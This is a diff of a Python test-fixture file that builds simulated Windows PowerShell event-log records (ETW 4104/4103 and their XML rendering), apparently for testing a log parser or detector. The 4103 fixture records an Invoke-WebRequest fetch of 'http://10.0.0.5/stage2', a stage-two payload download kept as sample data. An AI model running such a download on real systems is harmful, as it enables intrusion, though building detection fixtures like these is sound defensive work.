@@ -49,7 +49,7 @@ _SB_DESC = ("Creating Scriptblock text (%1 of %2):%n%3%n%nScriptBlock ID: %4%nPa
 
 # 1. Windows PowerShell 4104, single part (level 5 Verbose, task 2, opcode 15 "On create calls").
 ETW_PS_4104 = (4104, {
-    "EventHeader": _hdr(PS_GUID, 4104, FT_1, 4556, 6992,
+    "EventHeader": _hdr(PS_GUID, 4104, FT_1, 4556, 6992, flags=0x241,     # + EXTENDED_INFO
                         activity="{4D3F6A51-0C1B-0002-9B1D-3F4D1B0CDB01}"),
     "MessageNumber": "1",
     "MessageTotal": "1",
@@ -58,6 +58,8 @@ ETW_PS_4104 = (4104, {
     "Path": "",
     "Description": _SB_DESC,
     "Task Name": "EXECUTE A REMOTE COMMAND",
+    # the session enables EVENT_ENABLE_PROPERTY_SID (pywintrace: EventExtendedData["SID"])
+    "EventExtendedData": {"SID": "S-1-5-21-1004336348-1177238915-682003330-1104"},
 })
 
 # 2. 4104 in three parts (a long block), part 3 empty as PowerShell sometimes logs it.
@@ -72,7 +74,7 @@ ETW_PS_4104_PARTS = [
 
 # 3. 4103 module/pipeline logging (level 4, task 106 "Executing Pipeline", opcode 20).
 ETW_PS_4103 = (4103, {
-    "EventHeader": _hdr(PS_GUID, 4103, FT_5, 4556, 6992, level=4, task=106, opcode=20),
+    "EventHeader": _hdr(PS_GUID, 4103, FT_5, 4556, 6992, level=4, task=106, opcode=20, flags=0x241),
     "ContextInfo": ("        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
                     "        Command Name = Invoke-WebRequest\r\n        Command Type = Cmdlet\r\n"),
     "UserData": "",
@@ -80,6 +82,7 @@ ETW_PS_4103 = (4103, {
                'name="Uri"; value="http://10.0.0.5/stage2"\r\n',
     "Description": "%1",
     "Task Name": "EXECUTING PIPELINE",
+    "EventExtendedData": {"SID": "S-1-5-21-1004336348-1177238915-682003330-1104"},
 })
 
 # 4. PowerShell 7 (PowerShellCore provider) 4104.
@@ -184,3 +187,20 @@ XML_PS_4104 = (
     "<Data Name='ScriptBlockId'>7f0b2a8e-3c1d-4b8e-9a51-2f6c0d9e4b11</Data><Data Name='Path'/></EventData></Event>")
 
 XML_SYSMON_ALL = [XML_SYSMON_1, XML_SYSMON_13, XML_SYSMON_12, XML_SYSMON_21]
+
+# The event log's rendering of ETW_PS_4103 (the same event, record 5522): CRLFs as logged, the
+# empty UserData as an empty element, no ActivityID (the ETW header's is all zeros).
+XML_PS_4103 = (
+    f"<Event xmlns='{_NS}'><System><Provider Name='Microsoft-Windows-PowerShell' "
+    "Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/><EventID>4103</EventID><Version>1</Version>"
+    "<Level>4</Level><Task>106</Task><Opcode>20</Opcode><Keywords>0x0</Keywords>"
+    "<TimeCreated SystemTime='2026-11-24T09:12:00.2500007Z'/><EventRecordID>5522</EventRecordID>"
+    "<Correlation/><Execution ProcessID='4556' ThreadID='6992'/>"
+    "<Channel>Microsoft-Windows-PowerShell/Operational</Channel>"
+    f"<Computer>{HOST}</Computer><Security UserID='S-1-5-21-1004336348-1177238915-682003330-1104'/></System>"
+    "<EventData><Data Name='ContextInfo'>        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
+    "        Command Name = Invoke-WebRequest\r\n        Command Type = Cmdlet\r\n</Data>"
+    "<Data Name='UserData'></Data>"
+    "<Data Name='Payload'>CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\n"
+    "ParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://10.0.0.5/stage2\"\r\n</Data>"
+    "</EventData></Event>")
